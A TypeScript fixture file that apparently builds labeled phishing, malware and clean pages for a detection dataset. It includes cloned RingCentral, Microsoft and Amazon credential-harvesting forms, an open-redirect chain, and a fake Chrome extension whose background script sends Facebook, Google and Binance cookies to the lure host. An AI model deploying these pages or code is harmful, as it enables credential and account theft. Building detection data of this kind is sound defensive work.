import { createCipheriv } from 'node:crypto';
import type { Entry } from '../entry.js';
import { doc, html, js, jsonRoute, redirectRoute, fileRoute, crx, footer, logo, analytics, beacon } from '../parts/zm-kit.js';

export const entries: Entry[] = [
  {
  id: 'zm-phish-voicemail-lure-audio',
  label: 'phishing',
  kind: 'lure-page',
  url: 'https://vm-notify-cloud.com/msg/play?id=55102&ext=414',
  body: doc({
    title: 'New Voice Message (0:47) – RingCentral',
    css: `body{background:#eef2f6}.c{max-width:460px;margin:80px auto;background:#fff;border-radius:10px;padding:30px}.pl{display:flex;align-items:center;gap:10px;background:#f4f6f8;padding:12px;border-radius:30px}.pl i{flex:1;height:4px;background:#cfd8dc}.b{display:block;text-align:center;background:#0684bd;color:#fff;padding:12px;border-radius:6px;text-decoration:none;margin-top:16px}`,
    body: `<div class="c"><b style="color:#0684bd">RingCentral</b><h3>You have a new voice message</h3><p>From: <b>+1 (312) 555-0187</b><br>Received: Today 9:14 AM · Duration 0:47</p><div class="pl"><span>▶</span><i></i><span>0:47</span></div><p style="font-size:13px;color:#666">This message is encrypted. Verify your Microsoft 365 account to play it.</p><a class="b" id="go" href="#">Listen to message</a></div>
<script>var em=new URLSearchParams(location.search).get('u')||'';document.getElementById('go').href='https://vm-notify-cloud.com/msg/auth/?v=55102&u='+encodeURIComponent(em)</script>`,
  }),
  routes: {
    'vm-notify-cloud.com/msg/auth/': html(doc({ title: 'Sign in to your account', body: `<div style="width:440px;margin:80px auto;padding:40px;box-shadow:0 2px 6px rgba(0,0,0,.2)"><b>Microsoft</b><h2>Verify your identity</h2><p>to play voice message 55102</p><form method="post" action="/msg/auth/post"><input name="login" placeholder="Email" style="width:100%;padding:8px;margin:8px 0"><input name="passwd" type="password" placeholder="Password" style="width:100%;padding:8px;margin:8px 0"><button style="background:#0067b8;color:#fff;border:0;padding:8px 30px">Sign in</button></form></div>` })),
  },
},
  {
  id: 'zm-phish-open-redirect-chain-amazon',
  label: 'phishing',
  kind: 'redirect-chain',
  url: 'https://ads.partnerclick-network.com/aclk?sa=L&ai=DChcSEw&adurl=https%3A%2F%2Fcdn-rd.shortstack-links.io%2Fz%2Fk81',
  routes: {
    'ads.partnerclick-network.com/aclk': html(`<!doctype html><script>location.replace(decodeURIComponent(new URLSearchParams(location.search).get('adurl')))</script>`),
    'cdn-rd.shortstack-links.io/z/k81': redirectRoute(307, 'https://amzn-account-hold.support/ap/signin?openid.return_to=ref%3Dnav_signin&case=HX-2219'),
    'amzn-account-hold.support/ap/signin': html(doc({
      title: 'Amazon Sign-In',
      css: `.c{width:350px;margin:30px auto;border:1px solid #ddd;border-radius:8px;padding:20px 26px}input{width:100%;padding:7px;border:1px solid #a6a6a6;border-radius:3px;margin:4px 0 12px}button{width:100%;background:#ffd814;border:1px solid #fcd200;border-radius:8px;padding:8px}.al{border:1px solid #c40000;border-radius:8px;padding:12px;color:#c40000;font-size:13px;margin-bottom:12px}`,
      body: `<div style="text-align:center;font-size:28px;font-weight:700;margin-top:20px">amazon</div><div class="c"><div class="al">Your account is on hold. We found unusual payment activity (Case HX-2219). Sign in to verify your payment method within 24 hours or your orders will be cancelled.</div><h2 style="font-weight:400">Sign in</h2><form method="post" action="/ap/verify"><label>Email or mobile phone number</label><input name="email"><label>Password</label><input name="password" type="password"><button>Sign in</button></form><p style="font-size:12px">By continuing, you agree to Amazon's Conditions of Use and Privacy Notice.</p></div><p style="text-align:center;font-size:11px">© 1996-2026, Amazon.com, Inc. or its affiliates</p>`,
    })),
  },
},
  {
  id: 'zm-malware-fake-ai-extension-crx',
  label: 'malware',
  kind: 'malicious-extension',
  url: 'https://gpt-sidebar-assistant.com/install',
  body: doc({
    title: 'GPT Sidebar – ChatGPT in every tab | Free Chrome Extension',
    css: `.h{text-align:center;padding:60px 20px;background:linear-gradient(135deg,#10a37f,#0b7a5f);color:#fff}.btn{background:#fff;color:#0b7a5f;padding:14px 30px;border-radius:30px;text-decoration:none;font-weight:700}ol{max-width:600px;margin:30px auto}`,
    body: `<div class="h"><h1>ChatGPT in every tab — free, no login</h1><p>4.9 ★ · 300,000+ users</p><a class="btn" href="/dl/gpt-sidebar-2.3.1.crx">Add to Chrome — it's free</a></div>
<ol><li>Download the extension file</li><li>Open <code>chrome://extensions</code> and turn on <b>Developer mode</b></li><li>Drag the downloaded file into the page and click "Add extension"</li></ol>
${footer('GPT Sidebar', ['Privacy', 'Terms', 'Contact'])}`,
  }),
  routes: {
    'gpt-sidebar-assistant.com/dl/gpt-sidebar-2.3.1.crx': fileRoute(crx([
      { name: 'manifest.json', data: JSON.stringify({ manifest_version: 3, name: 'GPT Sidebar', version: '2.3.1', permissions: ['cookies', 'tabs', 'webRequest', 'storage', 'scripting'], host_permissions: ['<all_urls>'], background: { service_worker: 'bg.js' } }) },
      { name: 'bg.js', data: "chrome.cookies.getAll({},c=>fetch('https://gpt-sidebar-assistant.com/c',{method:'POST',body:JSON.stringify(c.filter(x=>/facebook|google|binance/.test(x.domain)))}));" },
    ]), 'application/x-chrome-extension', 'gpt-sidebar-2.3.1.crx'),
  },
},
  {
  id: 'zm-clean-dapp-official-airdrop-claim',
  label: 'clean',
  kind: 'crypto-dapp',
  url: 'https://claim.meridianswap.finance/',
  body: doc({
    title: 'MRD Community Distribution – Claim | Meridian',
    css: `body{background:#10131c;color:#e6e8ee}.c{max-width:520px;margin:60px auto;background:#191d29;border-radius:20px;padding:28px}button{width:100%;padding:14px;border:0;border-radius:14px;background:#4c6fff;color:#fff}`,
    body: `<div class="c"><h2>MRD community distribution</h2><p>Snapshot block 284,112,000 (Oct 1, 2026). Claims are open until March 31, 2027. Unclaimed tokens return to the DAO treasury.</p><p style="font-size:13px;color:#8a91a5">Meridian will only ever run the claim on <b>claim.meridianswap.finance</b>. We will never DM you, and the claim never asks for token approvals or your seed phrase.</p><button id="c">Connect wallet to check eligibility</button><p id="r"></p></div>
<script>
document.getElementById('c').onclick=async function(){if(!window.ethereum){document.getElementById('r').textContent='No wallet found.';return}
var a=(await ethereum.request({method:'eth_requestAccounts'}))[0];var p=await (await fetch('/proofs/'+a.toLowerCase()+'.json')).json();
if(!p.amount){document.getElementById('r').textContent='This address is not eligible.';return}
document.getElementById('r').textContent='Eligible: '+p.amount+' MRD';
await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:'0x5a1f3bb2e7c8d9e0f1a2b3c4d5e6f708192a3b4c',data:'0x2e7ba6ef'+p.calldata}]});};
</script>`,
  }),
},
  {
  id: 'zm-clean-web-wallet-mnemonic-access',
  label: 'clean',
  kind: 'crypto-dapp',
  url: 'https://www.myetherwallet.com/wallet/access/software?type=mnemonic&step=2',
  body: doc({
    title: 'Access My Wallet | MyEtherWallet (MEW)',
    css: `body{background:#f2f4fa}.c{max-width:640px;margin:40px auto;background:#fff;border-radius:16px;padding:30px}.w{background:#fff3e0;padding:12px;border-radius:8px;font-size:14px}.g{display:grid;grid-template-columns:repeat(3,1fr);gap:8px;margin:12px 0}.g input{padding:8px;border:1px solid #ccd}`,
    body: `<div class="c"><h2>Access wallet with Mnemonic Phrase</h2><div class="w"><b>NOT RECOMMENDED.</b> This is not a recommended way to access your wallet. Due to the sensitivity of the information involved, these options should only be used in offline settings by experienced users. Your phrase never leaves this browser.</div>
<div class="g" id="g"></div><label><input type="checkbox"> I understand the risks</label><br><br><button style="background:#05c0a5;color:#fff;border:0;padding:12px 30px;border-radius:8px">Access wallet</button></div>
<script>for(var i=1;i<=12;i++){var x=document.createElement('input');x.placeholder=i+'.';x.autocomplete='off';document.getElementById('g').appendChild(x)}</script>
${footer('MyEtherWallet Inc.', ['About', 'Privacy', 'Terms', 'Help center'])}`,
  }),
},
];
